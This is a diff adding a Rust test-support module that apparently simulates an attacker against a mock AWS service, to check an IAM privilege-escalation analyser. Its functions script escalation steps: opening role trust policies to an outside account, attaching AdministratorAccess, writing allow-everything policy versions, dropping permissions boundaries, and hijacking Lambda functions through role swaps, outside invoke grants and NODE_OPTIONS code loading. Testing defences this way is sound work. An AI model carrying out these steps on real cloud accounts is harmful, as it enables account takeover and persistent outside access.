@@ -1,0 +1,259 @@
+//! What somebody does who holds sessions of roles: each step of a way as the calls that it takes, with the credentials at hand.
+//!
+//! Documents that the attacker writes allow everything, and trust policies that it writes let in the role in hand and an account outside of the organisation.
+
+use serde_json::{Value, json};
+
+use super::accounts::{ACCOUNT, Account, arn};
+use super::{OUTSIDE, REGION};
+use crate::client::{Answer, Mock, policy};
+
+pub(crate) const ADMINISTRATOR: &str = "arn:aws:iam::aws:policy/AdministratorAccess";
+
+/// A session of a role.
+#[derive(Debug, Clone)]
+pub(crate) struct Session {
+    /// The access key.
+    pub(crate) key: String,
+    /// The session's own ARN.
+    pub(crate) arn: String,
+    /// The role's ARN.
+    pub(crate) role: String,
+}
+
+/// A question to the enforcement: action, resource, and what the request says besides.
+#[derive(Debug, Clone)]
+pub(crate) struct Asked(pub(crate) String, pub(crate) String, pub(crate) Value);
+
+pub(crate) fn asked(action: &str, resource: &str) -> Asked {
+    Asked(action.to_owned(), resource.to_owned(), json!({}))
+}
+
+/// How a function is made to run.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Run {
+    Invoke,
+    /// Everybody outside may invoke it.
+    Permission,
+    /// A queue does.
+    Mapping,
+}
+
+/// Calls in an account, each of which gives what it yields or the refusal.
+pub(crate) struct Attacker<'a> {
+    pub(crate) mock: &'a Mock,
+    pub(crate) account: &'a Account,
+}
+
+fn granted(answer: Answer) -> Result<Answer, String> {
+    if (200..300).contains(&answer.status) { Ok(answer) } else { Err(format!("{}: {}", answer.status, answer.body.replace('\n', " "))) }
+}
+
+fn everything() -> String {
+    policy(&json!([{"Effect": "Allow", "Action": "*", "Resource": "*"}]))
+}
+
+fn role_name(arn: &str) -> &str {
+    super::accounts::name(arn)
+}
+
+impl Attacker<'_> {
+    /// What runs with a role.
+    pub(crate) fn begin(&self, role: &str) -> Result<Session, String> {
+        self.handed_over(role, &json!({"role": role}))
+    }
+
+    /// What a function's code runs with.
+    pub(crate) fn as_function(&self, function: &str) -> Result<Session, String> {
+        let answer =
+            self.mock.rest(ACCOUNT, REGION, "lambda", "GET", &format!("/2015-03-31/functions/{}/configuration", last(function)), "");
+        let role = granted(answer)?.json()["Role"].as_str().unwrap_or_default().to_owned();
+        self.handed_over(&role, &json!({"function": function}))
+    }
+
+    fn handed_over(&self, role: &str, of: &Value) -> Result<Session, String> {
+        let answer = granted(self.mock.post("POST", "/_mock/credentials", &of.to_string()))?.json();
+        let text = |name: &str| answer[name].as_str().unwrap_or_default().to_owned();
+        Ok(Session { key: text("AccessKeyId"), arn: text("Arn"), role: role.to_owned() })
+    }
+
+    /// Decides calls by the enforcement.
+    pub(crate) fn decided(&self, principal: &str, questions: &[Asked]) -> Vec<bool> {
+        let question = |Asked(action, resource, context): &Asked| json!({"principal": principal, "action": action, "resource": resource, "context": context});
+        let body = Value::Array(questions.iter().map(question).collect());
+        let answer = self.mock.post("POST", "/_mock/authorize", &body.to_string());
+        assert_eq!(answer.status, 200, "{}", answer.body);
+        answer.json().as_array().into_iter().flatten().map(|it| it["decision"] == "allowed").collect()
+    }
+
+    pub(crate) fn may(&self, session: &Session, action: &str, resource: &str) -> Result<(), String> {
+        self.may_with(session, &asked(action, resource))
+    }
+
+    pub(crate) fn may_with(&self, session: &Session, question: &Asked) -> Result<(), String> {
+        if self.decided(&session.arn, std::slice::from_ref(question)) == [true] {
+            Ok(())
+        } else {
+            Err(format!("{} may not {} on {} with {}", session.arn, question.0, question.1, question.2))
+        }
+    }
+
+    /// Whether a service may assume a role.
+    pub(crate) fn trusts(&self, role: &str, service: &str) -> bool {
+        self.decided(service, &[Asked("sts:AssumeRole".to_owned(), role.to_owned(), json!({"aws:SourceAccount": ACCOUNT}))]) == [true]
+    }
+
+    /// Whether a session may do all that is asked of an administrator, in several services.
+    pub(crate) fn is_administrator(&self, session: &Session) -> bool {
+        let probes = [
+            ("iam:CreateUser", "arn:aws:iam::111122223333:user/probe"),
+            ("iam:CreateAccountAlias", "*"),
+            ("s3:PutBucketPolicy", "arn:aws:s3:::probe"),
+            ("ec2:TerminateInstances", "arn:aws:ec2:eu-west-1:111122223333:instance/i-0a1b2c3d4e5f60718"),
+            ("kms:CreateKey", "*"),
+            ("lambda:DeleteFunction", "arn:aws:lambda:eu-west-1:111122223333:function:probe"),
+            ("organizations:LeaveOrganization", "*"),
+        ];
+        self.decided(&session.arn, &probes.map(|(action, resource)| asked(action, resource))).iter().all(|allowed| *allowed)
+    }
+
+    fn iam(&self, session: &Session, operation: &str, parameters: &[(&str, &str)]) -> Result<(), String> {
+        granted(self.mock.iam(&session.key, operation, parameters)).map(|_| ()).map_err(|error| format!("{operation}: {error}"))
+    }
+
+    fn lambda(&self, session: &Session, method: &str, path: &str, body: &Value) -> Result<(), String> {
+        let answer = self.mock.rest(&session.key, REGION, "lambda", method, &format!("/2015-03-31/{path}"), &body.to_string());
+        granted(answer).map(|_| ()).map_err(|error| format!("{method} {path}: {error}"))
+    }
+
+    /// What a trust policy asks of the request that the caller chooses.
+    pub(crate) fn chosen(&self, role: &str) -> Option<String> {
+        let trust = self.account.roles.iter().find(|it| it.arn == role)?.trust.as_ref()?;
+        let conditions = trust["Statement"].as_array()?.iter().filter_map(|it| it["Condition"]["StringEquals"]["sts:ExternalId"].as_str());
+        conditions.map(str::to_owned).next()
+    }
+
+    pub(crate) fn assume(&self, key: &str, role: &str) -> Result<Session, String> {
+        let id = self.chosen(role);
+        let mut parameters = vec![("RoleArn", role), ("RoleSessionName", "job")];
+        parameters.extend(id.iter().map(|id| ("ExternalId", id.as_str())));
+        let answer = granted(self.mock.sts(key, "AssumeRole", &parameters)).map_err(|error| format!("AssumeRole: {error}"))?;
+        let key = answer.element("AccessKeyId").unwrap_or_default().to_owned();
+        let arn = format!("arn:aws:sts::{ACCOUNT}:assumed-role/{}/job", role_name(role));
+        Ok(Session { key, arn, role: role.to_owned() })
+    }
+
+    /// Assumes a role whose trust policy the attacker wrote: where its role may not, from outside.
+    pub(crate) fn assume_opened(&self, by: &Session, role: &str) -> Result<Session, String> {
+        self.assume(&by.key, role).or_else(|_| self.assume(OUTSIDE, role))
+    }
+
+    pub(crate) fn open_trust(&self, by: &Session, role: &str) -> Result<Session, String> {
+        self.iam(by, "UpdateAssumeRolePolicy", &[("RoleName", role_name(role)), ("PolicyDocument", &opened(by))])?;
+        self.assume_opened(by, role)
+    }
+
+    pub(crate) fn put_policy(&self, by: &Session, role: &str) -> Result<(), String> {
+        let document = everything();
+        self.iam(by, "PutRolePolicy", &[("RoleName", role_name(role)), ("PolicyName", "more"), ("PolicyDocument", &document)])
+    }
+
+    pub(crate) fn attach(&self, by: &Session, role: &str) -> Result<(), String> {
+        self.iam(by, "AttachRolePolicy", &[("RoleName", role_name(role)), ("PolicyArn", ADMINISTRATOR)])
+    }
+
+    pub(crate) fn write_version(&self, by: &Session, policy: &str) -> Result<(), String> {
+        let document = everything();
+        self.iam(by, "CreatePolicyVersion", &[("PolicyArn", policy), ("PolicyDocument", &document), ("SetAsDefault", "true")])
+    }
+
+    pub(crate) fn create_role(&self, by: &Session, name: &str) -> Result<(), String> {
+        self.iam(by, "CreateRole", &[("RoleName", name), ("AssumeRolePolicyDocument", &opened(by))])
+    }
+
+    pub(crate) fn drop_boundary(&self, by: &Session, role: &str) -> Result<(), String> {
+        self.iam(by, "DeleteRolePermissionsBoundary", &[("RoleName", role_name(role))])
+    }
+
+    pub(crate) fn replace_boundary(&self, by: &Session, role: &str) -> Result<(), String> {
+        self.iam(by, "PutRolePermissionsBoundary", &[("RoleName", role_name(role)), ("PermissionsBoundary", ADMINISTRATOR)])
+    }
+
+    /// Takes away a role's policy by its name or, where it is managed, its ARN.
+    pub(crate) fn take_away(&self, by: &Session, role: &str, policy: &str) -> Result<(), String> {
+        let name = ("RoleName", role_name(role));
+        if policy.starts_with("arn:") {
+            self.iam(by, "DetachRolePolicy", &[name, ("PolicyArn", policy)])
+        } else {
+            self.iam(by, "DeleteRolePolicy", &[name, ("PolicyName", policy)])
+        }
+    }
+
+    /// Makes a function that runs as a role, and gives its ARN.
+    pub(crate) fn create_function(&self, by: &Session, name: &str, role: &str) -> Result<String, String> {
+        let code = json!({"ZipFile": "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="});
+        let body = json!({"FunctionName": name, "Role": role, "Runtime": "python3.13", "Handler": "f.g", "Code": code});
+        self.lambda(by, "POST", "functions", &body).map(|()| arn(&format!("function/{name}")))
+    }
+
+    pub(crate) fn run(&self, by: &Session, function: &str, how: Run) -> Result<(), String> {
+        let name = last(function);
+        match how {
+            Run::Invoke => {
+                granted(self.mock.invoke(&by.key, REGION, name, "RequestResponse")).map(|_| ()).map_err(|it| format!("Invoke: {it}"))
+            }
+            Run::Permission => {
+                let body = json!({"StatementId": "outside", "Action": "lambda:InvokeFunction", "Principal": OUTSIDE});
+                self.lambda(by, "POST", &format!("functions/{name}/policy"), &body)?;
+                granted(self.mock.invoke(OUTSIDE, REGION, function, "RequestResponse"))
+                    .map(|_| ())
+                    .map_err(|it| format!("Invoke from outside: {it}"))
+            }
+            Run::Mapping => {
+                let body = json!({"FunctionName": name, "EventSourceArn": format!("arn:aws:sqs:{REGION}:{ACCOUNT}:queue")});
+                self.lambda(by, "POST", "event-source-mappings", &body)
+            }
+        }
+    }
+
+    pub(crate) fn change_code(&self, by: &Session, function: &str) -> Result<(), String> {
+        self.lambda(by, "PUT", &format!("functions/{}/code", last(function)), &json!({"ZipFile": "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="}))
+    }
+
+    /// Lets a function's runtime load other code; with a role, the function runs as that from now on.
+    pub(crate) fn change_configuration(&self, by: &Session, function: &str, role: Option<&str>) -> Result<(), String> {
+        let mut body = json!({"Environment": {"Variables": {"NODE_OPTIONS": "--import data:text/javascript,0"}}});
+        if let Some(role) = role {
+            body["Role"] = json!(role);
+        }
+        self.lambda(by, "PUT", &format!("functions/{}/configuration", last(function)), &body)
+    }
+
+    /// Names that something new could have, or that something else may have, by the resources that a role's policies speak of; `kind` stands before the name
+    /// in an ARN, as in `:role/`, and `open` where the resource leaves the name open.
+    pub(crate) fn names(&self, role: &str, kind: &str, open: &str) -> Vec<String> {
+        let policies = self.account.roles.iter().filter(|it| it.arn == role).flat_map(|it| it.policies.values());
+        let resources = policies.flat_map(|document| super::accounts::words(&resources_of(document)));
+        let named = resources.filter_map(|it| it.split_once(kind).map(|(_, name)| name.replace('*', open).replace('?', "x")));
+        let mut names: Vec<String> = named.chain([open.to_owned()]).collect();
+        names.sort_unstable();
+        names.dedup();
+        names
+    }
+}
+
+/// All resources of a document.
+fn resources_of(document: &Value) -> Value {
+    let statements = document["Statement"].as_array().into_iter().flatten();
+    Value::Array(statements.filter_map(|it| it.get("Resource")).cloned().collect())
+}
+
+fn last(arn: &str) -> &str {
+    arn.rsplit(':').next().unwrap_or_default()
+}
+
+/// A trust policy that lets in the role in hand, an account outside, and Lambda.
+fn opened(by: &Session) -> String {
+    let principals = json!({"AWS": [by.role, OUTSIDE], "Service": "lambda.amazonaws.com"});
+    policy(&json!([{"Effect": "Allow", "Principal": principals, "Action": "sts:AssumeRole"}]))
+}
